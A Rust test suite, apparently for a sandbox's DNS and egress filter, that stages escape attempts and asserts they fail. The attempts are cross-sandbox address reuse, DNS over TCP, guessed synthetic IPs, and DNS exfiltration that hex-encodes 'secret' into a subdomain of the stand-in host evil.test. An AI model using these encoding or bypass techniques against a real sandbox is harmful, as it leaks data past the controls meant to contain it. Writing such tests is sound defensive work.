//! B: names, and the addresses that stand for them.

use std::net::Ipv4Addr;

use hickory_proto::{op::ResponseCode, rr::RecordType};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::{
    plan::{Plan, allow, plan, rule},
    rig::{Rig, ask, drained},
};
use crate::{
    egress::faults::Check,
    model::rule::{Effect, Protocol},
};

#[tokio::test]
async fn a13_an_address_of_another_sandbox_means_nothing_here() {
    let attack = async |shared_table: bool| {
        let one = Rig::new(plan(None)).await;
        let address = one.resolve("api.test").await.unwrap();
        // The break: a keeper that hands the table of one sandbox to the other.
        let names = if shared_table { vec![("api.test".to_owned(), address.into())] } else { Vec::new() };
        let two = Rig::new(Plan { names, ..plan(None) }).await;
        let stream = two.tcp(&format!("{address}:443")).await;
        let shaken = match two.tls(stream, "api.test").await {
            Ok(mut stream) => ask(&mut stream, "GET / HTTP/1.1\r\nHost: api.test\r\n\r\n").await,
            Err(_) => String::new(),
        };
        assert_eq!(one.events().await.len(), 0, "and nothing of it reaches the other");
        (shaken.ends_with("ok"), two.events().await.remove(0).reason, two.dials())
    };
    assert_eq!(attack(false).await, (false, "no_name_binding".to_owned(), 0));
    assert_eq!(attack(true).await, (true, "rule_allows".to_owned(), 1));
}

#[tokio::test]
async fn b01_names_carry_nothing_out() {
    let attack = async |off| {
        let rig = Rig::new(plan(off)).await;
        for kind in [RecordType::A, RecordType::AAAA, RecordType::TXT, RecordType::NULL, RecordType::HTTPS] {
            rig.query("736563726574.evil.test", kind).await;
        }
        let lookups = rig.world.lookups.lock().unwrap().len();
        let text = rig.get("736563726574.evil.test", "/", "").await;
        assert!(off.is_some() || text.starts_with("HTTP/1.1 403"), "{text}");
        lookups + rig.dials()
    };
    assert_eq!(attack(None).await, 0);
    assert_ne!(attack(Some(Check::LateResolution)).await, 0);
}

#[tokio::test]
async fn b02_b06_only_names_have_addresses() {
    let attack = async |off| {
        let rig = Rig::new(plan(off)).await;
        for kind in [
            RecordType::AAAA,
            RecordType::TXT,
            RecordType::ANY,
            RecordType::SRV,
            RecordType::HTTPS,
            RecordType::SVCB,
        ] {
            let answer = rig.query("api.test", kind).await;
            let answered = (answer.metadata.response_code, answer.answers.len());
            assert_eq!(answered, (ResponseCode::NoError, 0), "{kind}");
        }
        for name in
            ["db", "localhost", "printer.local", "1.0.0.127.in-addr.arpa", "vault.internal", "a.localdomain"]
        {
            let answer = rig.query(name, RecordType::A).await;
            assert_eq!(answer.metadata.response_code, ResponseCode::NXDomain, "{name}");
        }
        rig.world.lookups.lock().unwrap().len()
    };
    assert_eq!(attack(None).await, 0);
    assert_eq!(
        attack(Some(Check::OwnResolver)).await,
        12,
        "a resolver that asks on tells the world each name"
    );
}

#[tokio::test]
async fn b02_another_resolver_is_just_an_address() {
    let attack = async |off| {
        let rig = Rig::new(plan(off)).await;
        // DNS over TCP, which is no DNS for us: the guest's own sockets on port 53 end in its resolver.
        let mut stream = rig.tcp("8.8.8.8:53").await;
        stream.write_all(b"\x00\x1d\x00\x07\x01").await.unwrap();
        let answered = stream.read_u8().await.is_ok();
        (answered, rig.events().await.remove(0).reason, rig.dials())
    };
    assert_eq!(attack(None).await, (false, "no_name_binding".to_owned(), 0));
    assert_eq!(attack(Some(Check::Decision)).await.2, 1);
}

#[tokio::test]
async fn b18_a_guessed_synthetic_address_leads_nowhere() {
    let attack = async |off| {
        let rules = vec![allow("api.test"), rule(Effect::Allow, "unbound.test", 443, Some(Protocol::Tcp))];
        let rig = Rig::new(Plan { rules, ..plan(off) }).await;
        let known = u32::from(rig.resolve("api.test").await.unwrap());
        let mut stream = rig.tcp(&format!("{}:443", Ipv4Addr::from(known + 1))).await;
        let _closed = stream.write_all(b"x").await;
        if off.is_none() {
            assert!(drained(&mut stream).await.is_empty());
            assert_eq!(rig.denial().await.reason, "no_name_binding");
        } else {
            stream.read_u8().await.unwrap();
        }
        rig.dials()
    };
    assert_eq!(attack(None).await, 0);
    assert_eq!(attack(Some(Check::NameBinding)).await, 1);
}
